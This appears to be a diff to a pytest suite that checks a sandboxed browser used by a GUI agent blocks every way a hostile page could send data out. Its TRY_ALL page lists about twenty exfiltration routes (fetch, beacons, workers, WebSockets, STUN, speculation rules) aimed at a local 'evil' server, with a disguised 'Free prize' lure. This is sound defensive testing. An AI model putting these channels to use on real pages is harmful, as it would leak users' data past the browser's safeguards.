@@ -5,15 +5,17 @@ The model is scripted, and does whatever the page says: nothing may rest on its 
 
 import http.server
 import re
+import socket
 import threading
 import time
-from collections.abc import Callable, Iterator, Sequence
+from collections.abc import Callable, Collection, Iterator, Sequence
 from contextlib import ExitStack
 from typing import Any
 
 import pytest
 from langchain_core.messages import AIMessage
 from langchain_core.runnables import RunnableLambda
+from playwright.sync_api import sync_playwright
 
 from browser import BrowserScreen, find_chromium
 from gui_agent import Trail, follow
@@ -49,18 +51,38 @@ Open = Callable[[str], BrowserScreen]
 
 
 class Site(http.server.ThreadingHTTPServer):
-    """A website on this machine; `seen` has the method and path of each request."""
+    """A website on this machine.
+
+    Attributes:
+        pages: Path -> what stands there; others have a page too.
+        away: Where paths below /away/ are redirected, below it.
+        seen: Method and path of each request.
+        connections: How many there were, with a request or without.
+    """
 
     daemon_threads = True
 
     def __init__(self) -> None:
         super().__init__(("127.0.0.1", 0), SiteHandler)
         self.pages: dict[str, bytes] = {}
+        self.away = ""
         self.seen: list[str] = []
+        self.connections = 0
+
+    def process_request(self, request: Any, client_address: Any) -> None:
+        self.connections += 1
+        super().process_request(request, client_address)
 
     @property
     def url(self) -> str:
         return f"http://127.0.0.1:{self.server_port}"
+
+
+KINDS = {
+    "/": "text/html; charset=utf-8",
+    "/file": "application/octet-stream",
+    "/service.js": "text/javascript",
+}
 
 
 class SiteHandler(http.server.BaseHTTPRequestHandler):
@@ -69,9 +91,12 @@ class SiteHandler(http.server.BaseHTTPRequestHandler):
     def do_GET(self) -> None:
         self.server.seen.append(f"{self.command} {self.path}")
         content = self.server.pages.get(self.path.partition("?")[0], b"<p>another page</p>")
-        self.send_response(200)
-        kind = "application/octet-stream" if self.path == "/file" else "text/html; charset=utf-8"
-        self.send_header("Content-Type", kind)
+        if self.path.startswith("/away/"):
+            self.send_response(302)
+            self.send_header("Location", self.server.away + self.path.removeprefix("/away"))
+        else:
+            self.send_response(200)
+        self.send_header("Content-Type", KINDS.get(self.path.partition("?")[0], KINDS["/"]))
         self.send_header("Content-Length", str(len(content)))
         self.end_headers()
         self.wfile.write(content)
@@ -102,7 +127,9 @@ def started(stack: ExitStack) -> Site:
 def sites() -> Iterator[tuple[Site, Site]]:
     """Our site, and another that nobody should reach."""
     with ExitStack() as stack:
-        yield started(stack), started(stack)
+        site, evil = started(stack), started(stack)
+        site.away = f"{evil.url}/redirected"
+        yield site, evil
 
 
 @pytest.fixture
@@ -267,6 +294,13 @@ def test_risks_of_keys(show: Open, body: str, keys: Sequence[str], risks: set[Ri
 HIDDEN = '<div class="all" onclick="{}">Free prize</div>'
 
 
+def click_until_told(screen: BrowserScreen, allowed: Collection[Risk], stopped: str) -> None:
+    told = [screen.act(MIDDLE, allowed)]
+    while len(told) < MOST_WAITS and not re.search(stopped, told[-1]):
+        told.append(screen.act(Hover(Point(0, 0)), ()))
+    assert re.search(stopped, told[-1]), told
+
+
 @pytest.mark.parametrize(
     ("script", "stopped"),
     [
@@ -295,6 +329,8 @@ HIDDEN = '<div class="all" onclick="{}">Free prize</div>'
             "link.click()",
             "it would have sent data",
         ),
+        ("fetch('/away/data')", "it would have left the site by 'http://127.0.0.1"),
+        ("new Image().src = '/away/pixel'", "it would have left the site by 'http://127.0.0.1"),
         ("window.open('EVIL')", "it would have "),
         ("window.open('/window')", "it would have opened a window"),
         ("new WebSocket('EVIL/socket'.replace('http', 'ws'))", "it would have talked to ws://"),
@@ -312,25 +348,160 @@ def test_what_was_not_allowed_does_not_happen(
     screen = show(HIDDEN.format(script))
 
     assert not screen.risks(MIDDLE)  # it looks harmless
-    told = [screen.act(MIDDLE, ())]
-    while len(told) < MOST_WAITS and not re.search(stopped, told[-1]):
-        told.append(screen.act(Hover(Point(0, 0)), ()))
-    assert re.search(stopped, told[-1]), told
+    click_until_told(screen, (), stopped)
     site, evil = sites
     assert evil.seen == []
     assert not [request for request in site.seen if request.startswith("POST")]
     assert screen.observe().place == f"{site.url}/"
 
 
-@pytest.mark.parametrize("name", ["RTCPeerConnection", "webkitRTCPeerConnection", "SharedWorker"])
-def test_other_ways_out_are_closed(show: Open, sites: tuple[Site, Site], name: str) -> None:
-    frame = f"frames[0].{name}"
-    screen = show(
-        f"<iframe></iframe><script>fetch(`/${{typeof {name}}}/${{typeof {frame}}}`)</script>"
-    )
-    screen.observe()
+# Name -> a script that takes this way to an address, `to`.
+WAYS = {
+    "fetch": "fetch(to, {mode: 'no-cors'})",
+    "kept-fetch": "fetch(to, {mode: 'no-cors', keepalive: true})",
+    "late-fetch": "fetchLater(to, {activateAfter: 0})",
+    "beacon": "navigator.sendBeacon(to, 'x')",
+    "ping": "add('a', {href: '#', ping: to}).click()",
+    "events": "new EventSource(to)",
+    "image": "new Image().src = to",
+    "script": "add('script', {src: to})",
+    "style": "add('link', {rel: 'stylesheet', href: to})",
+    "frame": "add('iframe', {src: to})",
+    "download": "add('a', {href: to, download: 'x'}, add('iframe').contentDocument).click()",
+    "prefetch": "add('link', {rel: 'prefetch', href: to})",
+    "rules": "speculate({prefetch: [{urls: [to], eagerness: 'immediate'}]})",
+    "prerender": "speculate({prerender: [{urls: [to], eagerness: 'immediate'}]})",
+    "socket": "new WebSocket(to)",
+    "worker": "new Worker(file(`fetch('${to}', {mode: 'no-cors'})`))",
+    "worker-socket": "new Worker(file(`new WebSocket('${to}')`))",
+    "shared-worker": "new SharedWorker(file(`fetch('${to}', {mode: 'no-cors'})`))",
+    "shared-socket": "new SharedWorker(file(`new WebSocket('${to}')`))",
+    "framed": "const {SharedWorker} = add('iframe').contentWindow; new SharedWorker(file("
+    "`fetch('${to}', {mode: 'no-cors'})`))",
+    "service": "navigator.serviceWorker.register('/service.js?' + to, {scope: to.slice(-9)})",
+}
+SOCKETS = {"socket", "worker-socket", "shared-socket"}  # are not redirected
+# These do not even lead to the own site.
+CLOSED = {
+    *("late-fetch", "beacon", "ping", "socket"),
+    *("shared-worker", "shared-socket", "framed", "service"),
+}
+TRY_ALL = (
+    """<link rel="icon" href="EVIL/direct/icon"><p>Free prize</p><script>
+function add(tag, more, to = document) {
+  return to.body.appendChild(Object.assign(to.createElement(tag), more));
+}
+function speculate(rules) {
+  add('script', {type: 'speculationrules', textContent: JSON.stringify(rules)});
+}
+function file(text) { return URL.createObjectURL(new Blob([text])); }
+function take(way) { try { way(); } catch {} }  // some are closed
 
-    assert "GET /undefined/undefined" in sites[0].seen
+const servers = ['stun:127.0.0.1:PORT', 'turn:127.0.0.1:PORT?transport=tcp'].map(
+  (urls) => ({urls, username: 'x', credential: 'x'}));
+take(() => {
+  const peer = new RTCPeerConnection({iceServers: servers});
+  peer.createDataChannel('x');
+  peer.setLocalDescription();
+});
+take(() => new WebTransport('https://127.0.0.1:PORT'));
+
+for (const base of ['EVIL/direct', 'http://localhost:PORT/named', '/away', '/own']) {
+  let to;
+"""
+    + "".join(
+        f"  to = new URL(`${{base}}/{name}`, location).href; take(() => {{ {script} }});\n"
+        for name, script in WAYS.items()
+    )
+    + "}\n</script>"
+)
+
+
+def paths(base: str, names: Collection[str]) -> set[str]:
+    return {f"{base}/{name}" for name in names}
+
+
+@pytest.fixture
+def datagrams(sites: tuple[Site, Site]) -> Iterator[set[str]]:
+    """What came by UDP at the port of the site that nobody should reach."""
+    seen: set[str] = set()
+
+    def listen(to: socket.socket) -> None:
+        while data := to.recv(2000):
+            seen.add("QUIC" if data[0] & 0x80 else "STUN")
+
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as to:
+        to.bind(("127.0.0.1", sites[1].server_port))
+        thread = threading.Thread(target=listen, args=(to,))
+        thread.start()
+        yield seen
+        to.sendto(b"", to.getsockname())
+        thread.join()
+
+
+@pytest.fixture
+def trying(sites: tuple[Site, Site]) -> Site:
+    """Our site, with a page that tries all ways out."""
+    site, evil = sites
+    site.pages["/"] = (
+        TRY_ALL.replace("EVIL", evil.url).replace("PORT", str(evil.server_port)).encode()
+    )
+    site.pages["/service.js"] = b"fetch(location.search.slice(1), {mode: 'no-cors'})"
+    return site
+
+
+def reached(site: Site) -> set[str]:
+    return {request.split()[1] for request in site.seen}
+
+
+def test_ways_out_lead_out_of_other_browsers(
+    trying: Site, sites: tuple[Site, Site], datagrams: set[str]
+) -> None:
+    """Else it would show nothing that they do not lead out of ours."""
+    evil = sites[1]
+    direct = {*paths("/direct", WAYS), *paths("/named", WAYS)}
+    wanted = direct | paths("/redirected", WAYS.keys() - SOCKETS)
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=find_chromium(), args=["--no-sandbox"])
+        page = browser.new_page()
+        page.goto(trying.url)
+        for _ in range(MOST_WAITS):
+            if wanted <= reached(evil) and len(datagrams) == 2:
+                break
+            page.wait_for_timeout(200)
+        browser.close()
+
+    assert wanted - reached(evil) == set()
+    assert datagrams == {"STUN", "QUIC"}
+
+
+def test_no_way_leads_out(trying: Site, sites: tuple[Site, Site], datagrams: set[str]) -> None:
+    evil = sites[1]
+    wanted = paths("/own", WAYS.keys() - CLOSED) | paths("/away", WAYS.keys() - CLOSED - SOCKETS)
+    with BrowserScreen(f"{trying.url}/", 448, 336) as screen:
+        for _ in range(MOST_WAITS):
+            screen.act(Wait(), ())
+            if wanted <= reached(trying):
+                break
+        screen.act(Wait(), ())
+
+    assert wanted - reached(trying) == set()
+    assert reached(trying) & (paths("/own", CLOSED) | paths("/away", CLOSED)) == set()
+    assert evil.connections == 0
+    assert datagrams == set()
+
+
+def test_page_that_is_redirected_elsewhere(show: Open, sites: tuple[Site, Site]) -> None:
+    site, evil = sites
+    screen = show('<a href="/away/there" class="all">on</a>')
+    assert not screen.risks(MIDDLE)
+
+    click_until_told(screen, [*Risk], f"it would have left the site by '{site.away}/there'")
+    screen.observe()
+    screen.act(GoBack(), ())
+
+    assert screen.observe().place == f"{site.url}/"
+    assert evil.connections == 0
 
 
 def test_page_does_nothing_on_its_own(show: Open, sites: tuple[Site, Site]) -> None:
@@ -347,19 +518,22 @@ def test_page_does_nothing_on_its_own(show: Open, sites: tuple[Site, Site]) -> N
     assert "POST /order" not in site.seen
 
 
-def test_consent_opens_a_door_and_no_other(show: Open, sites: tuple[Site, Site]) -> None:
+def test_sending_needs_consent_and_nothing_leaves(show: Open, sites: tuple[Site, Site]) -> None:
     site, evil = sites
     form = '<form method=post action="/order"><button class="all">Order</button></form>'
     screen = show(form)
     with pytest.raises(ActionError, match="the page changed meanwhile: now the action sends data"):
         screen.act(MIDDLE, ())
-    screen.act(MIDDLE, {Risk.SUBMIT})
-    assert site.seen[-1] == "POST /order"
+    for _ in range(MOST_WAITS):  # a busy machine may begin to send when the action is over
+        screen.act(MIDDLE, {Risk.SUBMIT})
+        if "POST /order" in site.seen:
+            break
+    assert "POST /order" in site.seen
 
     screen = show('<a href="EVIL/there" class="all">out</a>')
-    screen.act(MIDDLE, {Risk.LEAVE})
-    assert evil.seen == ["GET /there"]
-    assert screen.observe().place == f"{evil.url}/there"
+    click_until_told(screen, {Risk.LEAVE}, f"it would have gone to {evil.url}")
+    assert evil.seen == []
+    assert screen.observe().place == f"{site.url}/"
 
 
 def test_page_that_changes_while_the_user_thinks(show: Open, sites: tuple[Site, Site]) -> None:
